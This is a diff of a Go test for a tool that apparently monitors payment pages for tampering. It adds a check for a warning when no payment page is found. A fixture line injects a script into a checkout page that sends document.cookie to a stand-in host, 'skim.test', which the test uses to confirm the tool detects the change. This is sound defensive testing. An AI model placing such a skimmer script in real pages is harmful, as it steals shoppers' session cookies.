@@ -347,8 +347,13 @@ func TestWatchOnceHistoryAndEvidenceCommands(t *testing.T) {
 	if code, stderr := watch(); code != 0 || !strings.Contains(stderr, "the first good run, now the baseline (1 payment pages)") {
 		t.Fatalf("first run: exit %d\n%s", code, stderr)
 	}
+	// a start that reaches no payment page says so
+	code, _, stderr := runCLI(t, ctx, "watch", "--once", "--no-follow", "--store", filepath.Join(dir, "other.db"), "--ca-file", caFile, srv.URL+"/")
+	if code != 0 || !strings.Contains(stderr, "padlock: warning: no payment page was found") {
+		t.Errorf("no payment page: exit %d\n%s", code, stderr)
+	}
 	ps.set("/checkout", `<!doctype html><title>Pay</title><script src="/app.js"></script><script>new Image().src='https://skim.test/?'+document.cookie</script><form><input autocomplete="cc-number"></form>`)
-	code, stderr := watch()
+	code, stderr = watch()
 	if code != 1 {
 		t.Fatalf("a changed payment page: exit %d, want 1\n%s", code, stderr)
 	}
